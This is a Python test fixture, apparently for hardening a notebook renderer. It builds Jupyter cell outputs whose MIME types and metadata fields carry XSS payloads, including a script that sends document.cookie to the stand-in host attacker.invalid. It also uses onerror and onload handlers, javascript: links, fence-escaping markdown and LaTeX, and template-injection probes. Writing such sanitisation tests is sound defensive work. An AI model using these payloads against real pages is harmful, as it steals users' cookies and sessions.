"""What hostile learners write into notebooks so that it runs in a mentor's browser or calls home."""

from __future__ import annotations

import base64
from typing import Any

MARK = "window.pwned=1;fetch('http://attacker.invalid/'+document.cookie)"
AWAY = "http://attacker.invalid/pixel.png"

MARKUP = (
    f"<script>{MARK}</script>",
    f'<img src=x onerror="{MARK}">',
    f'<img src="{AWAY}">',
    f"![pixel]({AWAY})",
    "[click](javascript:window.pwned=1)",
    '<a href="javascript:window.pwned=1" id="bait">click</a>',
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{MARK}"><script>{MARK}</script></svg>',
    f'<iframe src="{AWAY}"></iframe>',
    f'<link rel="stylesheet" href="{AWAY}">',
    f"<style>body{{background:url({AWAY})}}</style>",
    f'<form action="{AWAY}"><button id="bait2">go</button></form>',
    f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    f"```\n<script>{MARK}</script>\n```\n<script>{MARK}</script>",
    f"````\n~~~\n`````````\n<script>{MARK}</script>",
    f"</textarea></pre></code></div><script>{MARK}</script>",
    f"$$\n\\href{{javascript:{MARK}}}{{x}}\n$$ $\\unicode{{<img src=x onerror={MARK}>}}$",
    f'\\begin{{equation}}<img src=x onerror="{MARK}">\\end{{equation}}',
    "{{ 7*7 }} {% raw %} <%= 7*7 %> ${7*7}",
    f"\x1b[31m<script>{MARK}</script>\x1b[0m\x1b]8;;javascript:window.pwned=1\x07x\x1b]8;;\x07",
    f"`` ` <script>{MARK}</script>",
    f"a\r```\r<script>{MARK}</script>",
)
ALL = "\n\n".join(MARKUP)


def outputs() -> list[dict[str, Any]]:
    """One cell's outputs, every kind that a page knows, each with payloads."""
    svg = base64.b64encode(MARKUP[6].encode()).decode()
    kinds: dict[str, Any] = {
        "text/html": ALL,
        "image/svg+xml": MARKUP[6],
        "application/javascript": MARK,
        "text/markdown": ALL,
        "text/latex": MARKUP[15],
        "application/vnd.jupyter.widget-view+json": {"model_id": ALL},
        "application/vnd.mermaid": MARKUP[0],
        "image/jpeg": f'x" onerror="{MARK}',
        f'image/gif" onerror="{MARK}': "x",
        "text/plain": ALL,
    }
    png = {
        "output_type": "display_data",
        "data": {"image/png": f'x" onerror="{MARK}', "text/plain": ALL},
        "metadata": {"image/png": {"width": f'1" onerror="{MARK}', "alt": f'" onerror="{MARK}'}},
    }
    fake = {
        "output_type": "display_data",
        "data": {"image/png": svg},
        "metadata": {"filenames": {"image/png": AWAY}},
    }
    return [
        *(
            {"output_type": "display_data", "data": {kind: data}, "metadata": {}}
            for kind, data in kinds.items()
        ),
        {"output_type": "execute_result", "data": kinds, "metadata": {}, "execution_count": ALL},
        png,
        fake,
        {"output_type": "stream", "name": ALL, "text": ALL},
        {"output_type": "error", "ename": ALL, "evalue": ALL, "traceback": [ALL, {"x": ALL}]},
        {"output_type": ALL, "text": ALL},
        ALL,  # type: ignore[list-item]
    ]
